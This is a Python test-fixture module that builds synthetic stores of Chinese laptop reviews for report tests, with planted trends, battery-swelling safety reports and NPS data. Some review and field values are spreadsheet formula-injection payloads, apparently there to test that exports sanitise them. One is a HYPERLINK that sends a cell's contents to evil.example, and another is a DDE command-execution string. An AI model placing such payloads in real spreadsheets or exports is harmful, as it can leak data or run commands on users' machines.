"""Deterministic stores for the report tests: records + analysis + record_topics rows.

:class:`StoreBuilder` writes rows exactly as `voc ingest` and `voc analyze` would have
left them, so report tests need neither. :func:`demo_store` builds ten weeks of
feedback ending 2026-W47 with known content:

* steady issues: ``display`` on 小新Pro14 and ``thermal`` on Y9000P, every week;
* a burst: ``battery`` on ThinkBook14 in 2026-W46 and W47 (about 1 a week before);
* safety reports: two battery swelling reports on ThinkBook14 in W47;
* 0-10 NPS answers on about a third of the rows, star ratings on the reviews;
* a review whose text is a formula-injection attempt, in W47.
"""

from __future__ import annotations

import json
import random
from dataclasses import dataclass, field
from datetime import date, datetime, timedelta
from pathlib import Path

from voc.store import Store, open_store

INJECTION = '=HYPERLINK("http://evil.example/?x="&A1,"点我领取优惠")'
PRODUCTS = ("Y9000P", "小新Pro14", "ThinkBook14")
CHANNELS = ("京东", "天猫", "客服热线")
WEEK47 = date(2026, 11, 16)  # Monday of 2026-W47


@dataclass
class StoreBuilder:
    """Accumulates rows and writes them in one transaction."""

    store: Store
    prefix: str = "R"  # record ids are prefix + a counter: another builder on one store needs another
    records: list[tuple] = field(default_factory=list)
    analysis: list[tuple] = field(default_factory=list)
    topics: list[tuple] = field(default_factory=list)

    def add(
        self,
        created_at: str,
        *,
        text: str = "还行",
        product: str | None = "Y9000P",
        channel: str | None = "京东",
        kind: str = "review",
        rating: int | None = None,
        nps: int | None = None,
        sentiment: str | None = "neutral",
        score: float | None = None,
        topics: tuple[tuple[str, str], ...] = (),
        safety: bool | str = False,
    ) -> str:
        """One record (and its analysis unless ``sentiment`` is None); returns its id.
        ``safety``: True (a swelling report) or the hazard (``"smoke"`` ...)."""
        rid = f"{self.prefix}{len(self.records):07d}"
        self.records.append(
            (rid, kind, channel, product, product, created_at, rating, nps, None, text, None, None, None, 0,
             None, "synth.csv", len(self.records) + 2, 1)
        )  # fmt: skip
        if sentiment is not None:
            if score is None:
                score = {"positive": 0.9, "neutral": 0.5, "negative": 0.1}[sentiment]
            topic_json = json.dumps([{"id": t, "polarity": p, "evidence": t} for t, p in topics])
            self.analysis.append(
                (rid, sentiment, score, topic_json, int(bool(safety)), "鼓包" if safety else None, None, text,
                 "synth-1", "synth-1", "2026-11-24T00:00:00",
                 (safety if isinstance(safety, str) else "swelling") if safety else None)
            )  # fmt: skip
            self.topics.extend((rid, t, p, t) for t, p in topics)
        return rid

    def commit(self) -> Store:
        """Write the rows through the store contract (as `voc ingest` and `voc analyze` do)."""
        with self.store.ingest_batch("synth.csv", "reviews", {}) as batch:
            batch.insert([(*r[:-1], batch.id) for r in self.records])
            batch.finish(len(self.records), len(self.records), 0, 0, 0)
        if self.analysis:
            self.store.write_analysis(self.analysis, self.topics)
        self.records, self.analysis, self.topics = [], [], []
        return self.store


def ts(day: date, rng: random.Random) -> str:
    t = datetime(day.year, day.month, day.day) + timedelta(seconds=rng.randrange(86400))
    return t.strftime("%Y-%m-%d %H:%M:%S")


def _week_days(monday: date, rng: random.Random) -> date:
    return monday + timedelta(days=rng.randrange(7))


def demo_store(
    path: Path, *, weeks: int = 10, per_week: int = 300, seed: int = 7, burst: bool = True
) -> Store:
    """Ten weeks (by default) ending 2026-W47 with the planted content described above."""
    rng = random.Random(seed)
    b = StoreBuilder(open_store(path))
    first = WEEK47 - timedelta(weeks=weeks - 1)
    for w in range(weeks):
        monday = first + timedelta(weeks=w)
        is_burst = burst and monday >= WEEK47 - timedelta(weeks=1)
        for i in range(per_week):
            product = PRODUCTS[i % 3]
            channel = CHANNELS[rng.randrange(3)]
            kind = "ticket" if channel == "客服热线" else "review"
            topics: tuple[tuple[str, str], ...] = ()
            text = "电脑不错，速度很快"
            roll = rng.random()
            if product == "小新Pro14" and roll < 0.18:
                topics, text = (("display", "neg"),), "屏幕有漏光，左下角明显"
            elif product == "Y9000P" and roll < 0.15:
                topics, text = (("thermal", "neg"),), "玩游戏发热严重，键盘烫手"
            elif product == "ThinkBook14" and (roll < (0.40 if is_burst else 0.01)):
                topics, text = (("battery", "neg"),), "充电充不进去，电池续航只有两小时"
            elif roll > 0.97:
                topics, text = (("logistics", "neg"),), "快递太慢了，包装也破了"
            elif roll > 0.90:
                topics, text = (("display", "pos"),), "屏幕很清晰，色彩好"
            negative = any(p == "neg" for _, p in topics)
            sentiment = (
                "negative" if negative else ("positive" if rng.random() < 0.7 else "neutral")
            )
            rating = None
            if kind == "review":
                rating = rng.choice((1, 2, 3)) if negative else rng.choice((4, 5, 5, 5))
            nps = None
            if rng.random() < 0.35:
                nps = rng.randrange(0, 7) if negative else rng.choice((7, 8, 9, 10, 10))
            b.add(ts(_week_days(monday, rng), rng), text=text, product=product, channel=channel, kind=kind,
                  rating=rating, nps=nps, sentiment=sentiment, topics=topics)  # fmt: skip
        if is_burst and monday == WEEK47:
            for k in range(2):
                b.add(ts(monday + timedelta(days=2 + k), rng), text="电池鼓包把后盖顶起来了，充电时发烫冒烟",
                      product="ThinkBook14", channel="京东", rating=1, sentiment="negative",
                      topics=(("battery", "neg"),), safety=True)  # fmt: skip
    b.add(
        "2026-11-18 10:00:00",
        text=INJECTION,
        product="Y9000P",
        channel="京东",
        rating=5,
        sentiment="positive",
    )
    b.add(
        "2026-11-18 10:01:00",
        text="+1 好评",
        product="Y9000P",
        channel="京东",
        rating=5,
        sentiment="positive",
    )
    b.add("2026-11-18 10:02:00", text="-2 分都不想给", product="=cmd|' /C calc'!A0", channel="@SUM(1+1)",
          rating=1, sentiment="negative")  # fmt: skip
    b.add("2026-11-18 10:03:00", text="@SUM(A1:A9) 一般", product="Y9000P", channel="天猫", rating=3,
          sentiment="neutral")  # fmt: skip
    return b.commit()
